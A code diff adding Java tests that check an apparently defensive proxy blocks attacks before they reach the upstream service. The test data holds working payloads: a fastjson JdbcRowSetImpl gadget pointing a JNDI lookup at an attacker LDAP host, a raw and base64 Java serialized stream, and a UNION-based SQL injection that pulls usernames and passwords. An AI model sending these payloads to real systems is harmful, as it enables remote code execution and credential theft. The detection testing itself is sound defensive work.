@@ -491,6 +491,52 @@ class EnforcementTest {
     }
 
     @Test
+    void aSerializedObjectIsRefusedBeforeTheUpstream() throws Exception {
+        int before = hits("/import");
+        // fastjson's JdbcRowSetImpl gadget: a JNDI lookup to the attacker's LDAP server.
+        String gadget = "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://10.9.8.7:1389/Exploit\","
+                + "\"autoCommit\":true}";
+        JsonNode json = eventOf(blockedEventId(post("/import", gadget)));
+        assertEquals("detector:attack.deserialization", json.path("reason").asText(), json.toString());
+        // A Java stream as the body's bytes (ObjectOutputStream writing a HashMap), raw.
+        byte[] stream = java.util.HexFormat.of().parseHex(
+                "aced0005737200116a6176612e7574696c2e486173684d61700507dac1c31660d103000246000a6c6f6164466163746f72");
+        JsonNode raw = eventOf(blockedEventId(send("/import", "application/x-java-serialized-object", stream)));
+        assertEquals("detector:attack.deserialization", raw.path("reason").asText(), raw.toString());
+        // The same stream in base64, in a cookie.
+        JsonNode cookie = eventOf(blockedEventId(ServeTests.CLIENT.send(HttpRequest.newBuilder(URI.create(proxy("/import")))
+                .timeout(Duration.ofSeconds(10)).header("Cookie", "session=" + java.util.Base64.getEncoder().encodeToString(stream))
+                .build(), HttpResponse.BodyHandlers.ofByteArray())));
+        assertEquals("detector:attack.deserialization", cookie.path("reason").asText(), cookie.toString());
+        assertEquals("cookie:session", cookie.path("findings").get(0).path("path").asText(), cookie.toString());
+        assertEquals(before, hits("/import"), "the upstream saw a serialized object");
+        String ordinary = "{\"@context\":\"https://schema.org\",\"@type\":\"Person\",\"name\":\"Ada\"}";
+        assertEquals(200, post("/import", ordinary).statusCode());
+        assertEquals(before + 1, hits("/import"));
+    }
+
+    @Test
+    void aGrpcWebCallCarryingAnAttackGetsPermissionDeniedAsItsStatus() throws Exception {
+        int before = hits("/pkg.Search/Find");
+        byte[] query = "1' UNION SELECT username, password FROM users--".getBytes(StandardCharsets.UTF_8);
+        byte[] frame = grpcFrame(0, new byte[] {0x0A, (byte) query.length}, query);
+        for (String type : new String[] {"application/grpc-web+proto", "application/grpc-web-text"}) {
+            byte[] body = type.endsWith("-text") ? java.util.Base64.getEncoder().encode(frame) : frame;
+            HttpResponse<byte[]> r = send("/pkg.Search/Find", type, body);
+            // Trailers-only, as grpc-web clients read a call's status: 200, the request's type, no body.
+            assertEquals(200, r.statusCode(), type);
+            assertEquals(type, r.headers().firstValue("content-type").orElse(""), type);
+            assertEquals("7", r.headers().firstValue("grpc-status").orElse(""), type);
+            String message = r.headers().firstValue("grpc-message").orElse("");
+            assertTrue(message.startsWith("blocked by policy, event "), message);
+            assertEquals(0, r.body().length, type);
+            JsonNode event = eventOf(message.substring("blocked by policy, event ".length()));
+            assertEquals("detector:attack.sqli", event.path("reason").asText(), event.toString());
+        }
+        assertEquals(before, hits("/pkg.Search/Find"), "the upstream saw the attack");
+    }
+
+    @Test
     void aRequestCarryingAnAttackIsBlockedBeforeTheUpstream() throws Exception {
         int before = hits("/search");
         HttpResponse<byte[]> r = post("/search", "{\"q\":\"1' UNION SELECT username, password FROM users--\"}");
